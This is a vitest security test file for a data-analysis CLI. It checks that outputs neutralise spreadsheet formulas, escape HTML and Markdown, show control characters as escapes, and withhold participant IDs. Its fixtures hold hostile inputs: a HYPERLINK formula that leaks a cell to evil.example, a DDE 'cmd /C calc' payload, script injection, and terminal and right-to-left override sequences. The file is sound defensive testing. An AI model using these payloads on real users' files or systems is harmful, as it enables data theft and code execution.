import { readFileSync, renameSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { validate as validateProgramme } from '../../src/api/validate.js';
import { runTides } from '../helpers/cli.js';
import { writeProgramme } from '../helpers/programme.js';
import {
  analyse,
  analyseInProcess,
  corpusFile,
  EPOCH,
  expectNoCrash,
  FAST,
  fingerprint,
  listFiles,
  metricsTable,
  outputText,
  PARTICIPANT_ID,
  programmeWith,
  readCsv,
  tmp,
  type ValidateJson,
  validate,
} from './support.js';

/**
 * Security: inputs are never written, outputs are safe to open in Excel and to render as HTML or
 * Markdown, no participant-level identifier reaches a published output, and identifiers are text.
 */

/** Broken variants of the corpus programme, to check that no failure path leaks or writes. */
const VARIANTS: Record<string, Record<string, Buffer>> = {
  clean: {},
  'no header': { 'B/participants.csv': corpusFile('participants/no-header.csv') },
  'swallowing quote': { 'B/participants.csv': corpusFile('participants/quote-swallows-rows.csv') },
  ragged: { 'B/participants.csv': corpusFile('participants/ragged.csv') },
  dates: { 'B/participants.csv': corpusFile('participants/dates.csv') },
  binary: { 'B/participants.csv': corpusFile('participants/binary.csv') },
  'bad scores': { 'B/outcomes.csv': corpusFile('outcomes/scores.csv') },
  'bad timepoints': { 'B/outcomes.csv': corpusFile('outcomes/timepoints.csv') },
};

describe('inputs are never written', () => {
  it.each(Object.keys(VARIANTS))(
    'leaves every input file of the %s programme as it was, and publishes no participant_id',
    async (name) => {
      const dir = programmeWith(VARIANTS[name]);
      const before = fingerprint(dir);
      // The clean programme through the built binary (and what it prints); the broken ones in
      // this process through the library, which is what reads and writes for the CLI.
      const outs: [suppress: boolean, out: string][] = [];
      if (name === 'clean') {
        const issues = join(tmp(), 'issues.csv');
        expectNoCrash(runTides(['validate', dir, '--issues-out', issues], EPOCH));
        const published = analyse(dir, ['--by', 'partner_id,cohort'], { suppress: true });
        expect(published.run.code).toBe(0);
        expect(published.run.stdout).not.toMatch(PARTICIPANT_ID);
        outs.push([true, published.out]);
      } else {
        const result = await validateProgramme(dir, { listIssues: true });
        expect([...result.issueList()].length).toBeGreaterThan(0);
        result.close();
        const published = await analyseInProcess(dir, {
          by: ['partner_id', 'cohort'],
          suppress: true,
        });
        expect(published.notices.join('\n')).not.toMatch(PARTICIPANT_ID);
        outs.push([true, published.out]);
      }
      // Without disclosure control (internal): no participant_id either.
      const internal = await analyseInProcess(dir, { by: ['partner_id', 'cohort'] });
      expect(internal.notices.join('\n')).not.toMatch(PARTICIPANT_ID);
      outs.push([false, internal.out]);
      for (const [suppress, out] of outs) {
        const files = listFiles(out);
        expect(files).toContain('tables.xlsx');
        for (const f of files) {
          const text = await outputText(join(out, f));
          expect(text.match(PARTICIPANT_ID)?.[0], `${f} (suppress ${suppress})`).toBeUndefined();
        }
      }
      expect(fingerprint(dir)).toEqual(before);
    },
  );

  it('refuses --out inside the input folder: inputs untouched, nothing written', () => {
    const dir = programmeWith();
    const before = fingerprint(dir);
    const out = join(dir, 'report');
    const run = runTides(['analyse', dir, '--out', out, '-q', ...FAST], EPOCH);
    expect(run.code).toBe(2);
    expect(run.stderr).toMatch(/is inside the input folder/);
    expect(fingerprint(dir)).toEqual(before);
  });
});

/** A cell Excel, LibreOffice or Google Sheets would run as a formula. */
const FORMULA_START = /^[=+\-@\t\r]/;

function expectFormulaSafeCsv(path: string): number {
  let checked = 0;
  for (const row of readCsv(path)) {
    for (const cell of row) {
      checked++;
      if (FORMULA_START.test(cell)) {
        // Only numbers (a negative change, a lower limit) may start like a formula.
        expect(cell, `${path}: ${JSON.stringify(cell)}`).toMatch(/^-\d+(\.\d+)?(e-?\d+)?$/);
      }
    }
  }
  return checked;
}

describe('outputs are safe to open in Excel and to render', () => {
  // Formulas in cohort names, in partner ids, names and themes, and in a file name.
  const FILE = '=HYPERLINK("evil","file") participants.csv';
  const cohorts = programmeWith({
    'B/participants.csv': corpusFile('participants/formulas.csv'),
    'partners.csv': corpusFile('partners/formulas.csv'),
    [FILE]: 'participant_id,partner_id,enrolled_on\n',
  });

  it('neutralises formulas in cohort names and partner fields in every CSV output', () => {
    for (const by of ['partner_id,cohort', 'theme']) {
      const { run, out } = analyse(cohorts, ['--by', by]);
      expect(run.code).toBe(0);
      const csvs = listFiles(out).filter((f) => f.endsWith('.csv'));
      expect(csvs.length).toBeGreaterThan(5);
      for (const f of csvs) expectFormulaSafeCsv(join(out, f));
      const reach = readCsv(join(out, 'reach.csv'));
      const groups = reach.map((r) => (by === 'theme' ? r[0] : r[1]));
      if (by === 'theme') {
        expect(groups).toContain(`'=HYPERLINK("http://evil.example/theme","garden")`);
      } else {
        expect(groups).toEqual(
          expect.arrayContaining([
            `'=HYPERLINK("http://evil.example/?leak="&A1,"Click for results")`,
            `'+SUM(1+1)*cmd|' /C calc'!A0`,
            `'-2+3`,
            `'@SUM(1+1)`,
            `'=1+1 after a tab`,
          ]),
        );
        // JSON keeps the text as it was sent: only spreadsheets need the apostrophe.
        const json = metricsTable(out, 'reach').map((r) => r.cohort);
        expect(json).toContain('=HYPERLINK("http://evil.example/?leak="&A1,"Click for results")');
      }
      // A partner id that starts like a formula (@P3) in cost.csv, a file name in data_quality.
      expect(readCsv(join(out, 'cost.csv')).map((r) => r[0])).toContain(`'@P3`);
      expect(readCsv(join(out, 'data_quality.csv')).map((r) => r[0])).toContain(`'${FILE}`);
    }
  });

  it('escapes the same text in report.html and report.md', () => {
    const { out } = analyse(cohorts, ['--by', 'partner_id,cohort']);
    const html = readFileSync(join(out, 'report.html'), 'utf8');
    expect(html).toContain(
      '=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;Click for results&quot;)',
    );
    expect(html).toContain('&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;');
    expect(html).not.toContain("<script>alert('x')");
    expect(html).not.toMatch(/<b>|href="javascript:/i);
    expect(html).toContain('=HYPERLINK(&quot;evil&quot;,&quot;file&quot;) participants.csv');
    const md = readFileSync(join(out, 'report.md'), 'utf8');
    expect(md).toContain("\\<script\\>alert('x')\\</script\\>");
    expect(md).toContain('\\| pipe \\| \\[link\\](javascript:alert(1)) \\*\\*bold\\*\\* \\<b\\>');
    expect(md).not.toMatch(/(^|[^\\])<script>/);
    // Every table row of report.md keeps its column count (no cell broke out with a `|`).
    for (const line of md.split('\n').filter((l) => l.startsWith('| B |'))) {
      const cells = line.split(/(?<!\\)\|/).length;
      expect(cells, line).toBeGreaterThan(5);
    }
  });

  it('neutralises formulas in validate --issues-out', () => {
    const dir = programmeWith({ 'B/outcomes.csv': corpusFile('outcomes/timepoints.csv') });
    const path = join(tmp(), 'issues.csv');
    expectNoCrash(runTides(['validate', dir, '--issues-out', path], EPOCH));
    expectFormulaSafeCsv(path);
    const values = readCsv(path).map((r) => r[3]);
    expect(values).toContain(`'=hyperlink("x")`);
  });
});

describe('identifiers with leading zeros stay text in every output', () => {
  // Partners 007 and 7 are two partners; people 0042, 042 and 42 are three people.
  const people = ['0042', '042', '42', '0001', '01', '1', '00', '0'];
  const dir = writeProgramme({
    'partners.csv': 'partner_id,partner_name,funding_gbp\n007,Double O Seven,7000\n7,Seven,700\n',
    'participants.csv':
      'participant_id,partner_id,enrolled_on,imd_decile\n' +
      people.map((p, i) => `${p},007,2016-05-0${(i % 9) + 1},${(i % 10) + 1}\n`).join('') +
      people
        .slice(0, 6)
        .map((p) => `${p},7,2016-06-01,3\n`)
        .join(''),
    'outcomes.csv':
      'participant_id,partner_id,measure,timepoint,recorded_on,score\n' +
      people
        .flatMap((p, i) => [
          `${p},007,ons_happiness,baseline,2016-05-10,${i % 5}\n`,
          `${p},007,ons_happiness,followup,2016-08-10,${(i % 5) + 2}\n`,
        ])
        .join('') +
      '00042,007,ons_happiness,baseline,2016-05-10,5\n',
  });

  it('validate keeps every id as sent', () => {
    const { run, result } = validate(dir);
    expect(run.code).toBe(1);
    expect(result?.totals.participants).toEqual({ read: 14, used: 14, rejected: 0 });
    // 00042 is not 0042 or 42: it has no participant row.
    expect(result?.issues).toEqual([
      expect.objectContaining({ line: 18, value: '00042', rule: 'outcome.no_episode' }),
    ]);
    const path = join(tmp(), 'issues.csv');
    runTides(['validate', dir, '--issues-out', path], EPOCH);
    expect(readCsv(path)[1]?.[3]).toBe('00042');
  });

  it('analyse keeps partner 007 apart from partner 7 in CSV, JSON, Markdown and HTML', () => {
    const { run, out } = analyse(dir);
    expect(run.code).toBe(0);
    const reach = readCsv(join(out, 'reach.csv'));
    expect(reach.map((r) => [r[0], r[1]])).toEqual([
      ['partner_id', 'participants'],
      ['All', '8'],
      ['007', '8'],
      ['7', '6'],
    ]);
    expect(readCsv(join(out, 'cost.csv')).map((r) => r[0])).toEqual([
      'partner_id',
      'All',
      '007',
      '7',
    ]);
    const json = metricsTable(out, 'reach').map((r) => r.partner_id);
    expect(json).toEqual(['All', '007', '7']);
    const wellbeing = metricsTable(out, 'wellbeing_change').map((r) => r.partner_id);
    expect(wellbeing).toContain('007');
    expect(readFileSync(join(out, 'report.md'), 'utf8')).toMatch(/^\| 007 \|/m);
    expect(readFileSync(join(out, 'report.html'), 'utf8')).toMatch(/>007</);
  });
});

describe('control characters in the input are shown, never written', () => {
  // What a hostile or careless file can carry: a sequence that conceals the text after it (ESC[8m,
  // the error count included), a carriage return that overwrites a line, a bell, a C1 control
  // sequence introducer and a right-to-left override ("Trojan Source").
  const CONCEAL = '\u001b[8m';
  const C1_CSI = '\u009b2J';
  const RLO = '\u202e';
  /** Any raw control character but the line feed that ends lines (visibleText.ts lists them). */
  // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are the point
  const RAW = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

  function hostileProgramme(): string {
    const dir = programmeWith();
    const edit = (path: string, change: (text: string) => string) =>
      writeFileSync(join(dir, path), change(readFileSync(join(dir, path), 'utf8')));
    edit('partners.csv', (text) =>
      text
        .replace('Alpha Arts', `Alpha${CONCEAL}Arts`)
        .replace(',garden,', `,gar${RLO}den\u0007,`)
        .concat(`C${C1_CSI},Gamma,community,arts,100\n`),
    );
    for (const partner of ['A', 'B']) {
      edit(`${partner}/participants.csv`, (text) => {
        const lines = text.replaceAll(',Tue,', `,Tue${CONCEAL}sday\rx,`).split('\n');
        lines[0] += `,notes${CONCEAL}hidden${RLO}`;
        return lines.map((line, i) => (i > 0 && line !== '' ? `${line},` : line)).join('\n');
      });
    }
    edit('A/participants.csv', (text) => text.replaceAll(',Mon,', `,Mon${C1_CSI}day,`));
    renameSync(join(dir, 'B/participants.csv'), join(dir, `B/participants${CONCEAL}${RLO}.csv`));
    writeFileSync(join(dir, 'notes\u0007\r.txt'), 'not data');
    return dir;
  }

  it('shows them as escapes in error messages: a folder name, an option', () => {
    const missing = join(tmp(), `data${CONCEAL}${RLO}`);
    const run = runTides(['validate', missing], EPOCH);
    expect(run.code).toBe(2);
    expect(run.stderr).toBe(
      `tides: input folder ${missing.replace(CONCEAL, '\\x1b[8m').replace(RLO, '\\u202e')} does not exist\n`,
    );
    const option = runTides(['validate', `--bad${CONCEAL}`], EPOCH);
    expect(option.code).toBe(2);
    expect(option.stderr).toContain("unknown option '--bad\\x1b[8m'");
    expect(option.stderr).not.toMatch(RAW);
  });

  it('shows them as escapes on the terminal and in every output file of validate, analyse and summary', async () => {
    const dir = hostileProgramme();
    const issues = join(tmp(), 'issues.csv');
    const out = join(tmp(), 'out');
    const summaryOut = join(tmp(), 'summary');
    const runs = {
      validate: runTides(['validate', dir, '--issues-out', issues], EPOCH),
      json: runTides(['validate', dir, '--json'], EPOCH),
      analyse: runTides(
        ['analyse', dir, '--out', out, '--by', 'partner_id,cohort,theme', '--no-suppress', ...FAST],
        EPOCH,
      ),
      summary: runTides(['summary', dir, '--year', '2016-17', '--out', summaryOut, ...FAST], EPOCH),
    };
    for (const [name, run] of Object.entries(runs)) {
      expectNoCrash(run);
      expect(run.stdout, `${name} stdout`).not.toMatch(RAW);
      expect(run.stderr, `${name} stderr`).not.toMatch(RAW);
    }
    const files = [
      issues,
      ...listFiles(out).map((f) => join(out, f)),
      ...listFiles(summaryOut).map((f) => join(summaryOut, f)),
    ];
    expect(files.length).toBeGreaterThan(10);
    expect(files.filter((f) => f.endsWith('.xlsx'))).toHaveLength(1);
    for (const file of files) expect(await outputText(file), file).not.toMatch(RAW);

    // The visible forms: file names, a header cell, a refused partner id, the ignored file.
    const text = runs.validate.stdout;
    for (const shown of [
      'B/participants\\x1b[8m\\u202e.csv',
      'notes\\x1b[8mhidden\\u202e',
      'C\\u009b2J',
      'notes\\x07\\r.txt',
    ]) {
      expect(text).toContain(shown);
    }
    expect(text.trimEnd().split('\n').at(-1)).toMatch(/^\d+ error\(s\), \d+ warning\(s\)$/);
    expect(readFileSync(issues, 'utf8')).toContain('notes\\x1b[8mhidden\\u202e');
    // Category names in tables: CSV and HTML as they are shown, Markdown escaped for rendering.
    const reachCsv = readFileSync(join(out, 'reach.csv'), 'utf8');
    for (const shown of ['Tue\\x1b[8msday\\rx', 'Mon\\u009b2Jday', 'gar\\u202eden\\x07']) {
      expect(reachCsv).toContain(shown);
    }
    expect(readFileSync(join(out, 'report.html'), 'utf8')).toContain('Tue\\x1b[8msday\\rx');
    expect(await outputText(join(out, 'tables.xlsx'))).toContain('Tue\\x1b[8msday\\rx');
    expect(readFileSync(join(out, 'report.md'), 'utf8')).toContain('Tue\\\\x1b\\[8msday\\\\rx');
    // JSON keeps the exact text through its own escapes, for machines.
    const metrics = readFileSync(join(out, 'metrics.json'), 'utf8');
    expect(metrics).toContain('"Tue\\u001b[8msday\\rx"');
    expect(metrics).toContain('gar\\u202eden\\u0007');
    expect(runs.json.stdout).toContain('B/participants\\u001b[8m\\u202e.csv');
    const report = JSON.parse(runs.json.stdout) as ValidateJson;
    expect(report.files.map((f) => f.path)).toContain(`B/participants${CONCEAL}${RLO}.csv`);
  });
});
